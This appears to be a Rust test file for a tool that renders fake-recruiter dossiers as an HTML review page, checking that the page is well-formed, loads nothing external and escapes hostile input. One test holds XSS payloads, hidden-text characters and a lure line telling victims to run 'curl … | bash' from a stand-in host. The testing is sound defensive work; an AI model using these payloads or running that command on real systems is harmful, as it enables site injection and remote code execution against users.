//! The page for reviewers, read by a parser of HTML as browsers do: what stands in it, and what never does.

#![expect(clippy::disallowed_methods, reason = "the test writes the records that it reads")]

mod common;

use common::{SAMPLES, now};
use falseface::Options;
use falseface::ingest::ReadOptions;
use falseface::report::{Format, Style};
use html5ever::tendril::TendrilSink;
use html5ever::tree_builder::TreeBuilderOpts;
use html5ever::{ParseOpts, parse_document};
use markup5ever_rcdom::{Handle, NodeData, RcDom};
use serde_json::json;
use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::PathBuf;

/// An element of a page.
struct Element {
    name: String,
    attributes: BTreeMap<String, String>,
    text: String,
}

fn page(inputs: &[PathBuf], options: &Options) -> String {
    common::report(inputs, options, &ReadOptions::default(), Format::Html, Style::default())
}

/// The elements of a page in their order, and what its parser had to mend.
fn elements(page: &str) -> (Vec<Element>, Vec<String>) {
    // As for a browser that runs no script: what it does not run stands there for it.
    let tree_builder = TreeBuilderOpts { scripting_enabled: false, ..TreeBuilderOpts::default() };
    let options = ParseOpts { tree_builder, ..ParseOpts::default() };
    let dom = parse_document(RcDom::default(), options).one(page);
    let mut found = Vec::new();
    collect(&dom.document, &mut found);
    (found, dom.errors.borrow().iter().map(ToString::to_string).collect())
}

fn collect(node: &Handle, found: &mut Vec<Element>) {
    if let NodeData::Element { name, attrs, .. } = &node.data {
        let attributes = attrs.borrow().iter().map(|a| (a.name.local.to_string(), a.value.to_string())).collect();
        let mut text = String::new();
        text_of(node, &mut text);
        found.push(Element { name: name.local.to_string(), attributes, text });
    }
    for child in node.children.borrow().iter() {
        collect(child, found);
    }
}

fn text_of(node: &Handle, text: &mut String) {
    if let NodeData::Text { contents } = &node.data {
        text.push_str(&contents.borrow());
    }
    for child in node.children.borrow().iter() {
        text_of(child, text);
    }
}

fn draws(elements: &[Element], class: &str) -> bool {
    elements.iter().any(|element| element.name == "svg" && element.attributes.get("class").is_some_and(|c| c == class))
}

/// What must hold of every page: it is well-formed, loads nothing, runs nothing but its own, and its places exist once.
fn assert_sound(page: &str) -> Vec<Element> {
    let (elements, mended) = elements(page);
    assert!(mended.is_empty(), "{mended:?}");
    let count = |name: &str| elements.iter().filter(|element| element.name == name).count();
    assert_eq!((count("script"), count("style"), count("h1"), count("main")), (1, 1, 1, 1));
    for loads in ["img", "iframe", "object", "embed", "link", "base", "form", "audio", "video", "image", "use"] {
        assert_eq!(count(loads), 0, "{loads}");
    }
    let mut ids = BTreeSet::new();
    for element in &elements {
        if let Some(id) = element.attributes.get("id") {
            assert!(ids.insert(id.clone()), "the id {id} stands twice");
        }
    }
    for element in &elements {
        for (name, value) in &element.attributes {
            assert!(!name.starts_with("on") && name != "style" && name != "src", "{name} of {}", element.name);
            if name == "href" {
                let place = value.strip_prefix('#').unwrap_or_else(|| panic!("{value} leads away from the page"));
                assert!(ids.contains(place), "{value} leads nowhere");
            }
            if name == "for" || name == "aria-labelledby" {
                assert!(ids.contains(value), "{name} names {value}, which is not there");
            }
        }
        if element.name == "svg" {
            let told = element.attributes.contains_key("aria-label") || element.attributes.contains_key("aria-hidden");
            assert!(told, "a drawing has words, or a row that says the same");
        }
        if element.name == "th" {
            assert!(element.attributes.contains_key("scope"));
        }
    }
    elements
}

#[test]
fn the_page_of_the_samples_is_sound_and_says_what_a_reviewer_needs() {
    let page = page(&[PathBuf::from(SAMPLES)], &Options::at(now()));
    let elements = assert_sound(&page);
    let has =
        |name: &str, text: &str| elements.iter().any(|element| element.name == name && element.text.contains(text));
    assert!(has("h1", "Items to verify"));
    for heading in [
        "Side by side",
        "To ask",
        "Ordinary reasons",
        "Next steps",
        "What it rests on",
        "Over time",
        "What could be seen",
    ] {
        assert!(has("h4", heading), "{heading}");
    }
    assert!(has("p", "A person must decide"));
    assert!(has("footer", "Nothing found is not clearance"));
    assert!(draws(&elements, "time"));
}

#[test]
fn the_terms_of_each_score_add_up_to_its_sum() {
    let page = page(&[PathBuf::from(SAMPLES)], &Options::at(now()));
    let mut sums = 0;
    for table in page.split("<table class=\"sum\">").skip(1) {
        let table = table.split("</table>").next().unwrap_or_default();
        let points: Vec<f64> = table
            .split("<td class=\"num\">")
            .skip(1)
            .map(|cell| cell.split('<').next().and_then(|points| points.parse().ok()).expect("points"))
            .collect();
        let (sum, terms) = points.split_last().expect("a sum");
        // Each term is rounded to a tenth.
        let most = 0.05 * points.len() as f64 + 1e-9;
        assert!((terms.iter().sum::<f64>() - sum).abs() <= most, "{terms:?} are not {sum}");
        sums += 1;
    }
    assert!(sums > 20, "{sums}");
}

#[test]
fn hostile_text_stays_text() {
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("hostile.jsonl");
    let hostile = [
        "</style></script><script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "' onmouseover='alert(1)",
        "<!-- --><![CDATA[ ]]>&#60;b&#62;&amp;lt;",
        "\u{202e}gnp.exe\u{202c}\u{200b}\u{feff}\u{0}\u{1b}[31m",
        "javascript:alert(1)//https://evil.example/<svg onload=alert(1)>",
        &"W".repeat(20_000),
    ];
    let mut lines = String::new();
    for (number, text) in hostile.iter().enumerate() {
        let pay = "Please install our meeting client and paste this command into your terminal: curl -s https://x.example/i | bash";
        let record = json!({
            "schema": "falseface.dossier/1",
            "id": format!("{number}{text}"),
            "role": "recruiter",
            "subject": {"names": [{"value": text}], "headline": text, "location": {"text": text}},
            "accounts": [{"network": text, "handle": text, "created_at": "2026-01-01"}],
            "employment": [
                {"employer": {"name": text}, "title": text, "start": "2020-01", "end": "2024-01"},
                {"employer": {"name": text}, "title": text, "start": "2021-01", "current": true},
            ],
            "contacts": [{"kind": "email", "value": "same@mail.example"}],
            "messages": [{"from_subject": true, "at": "2026-02-01T10:00:00Z", "thread": text,
                "text": format!("{text} {pay} {text}"), "sender": {"name": text}}],
            "provenance": [{"name": text, "source": text}],
        });
        lines.push_str(&record.to_string());
        lines.push('\n');
    }
    lines.push_str("{\"<script>\": \"</script>\"}\n");
    fs::write(&file, lines).expect("written");
    let mut options = Options::at(now());
    options.link = Some(falseface::link::DEFAULT_THRESHOLD);
    let page = page(&[file], &options);
    let elements = assert_sound(&page);
    let people =
        elements.iter().filter(|element| element.attributes.get("class").is_some_and(|class| class == "person"));
    assert_eq!(people.count(), hostile.len(), "everybody is shown");
    let shown =
        elements.iter().find(|element| element.name == "body").map(|body| body.text.clone()).unwrap_or_default();
    assert!(shown.contains("<script>alert(1)</script>"), "as text");
    assert!(
        !shown.contains(['\u{202e}', '\u{200b}', '\u{feff}', '\u{0}', '\u{1b}']),
        "nothing hides or turns the text"
    );
}
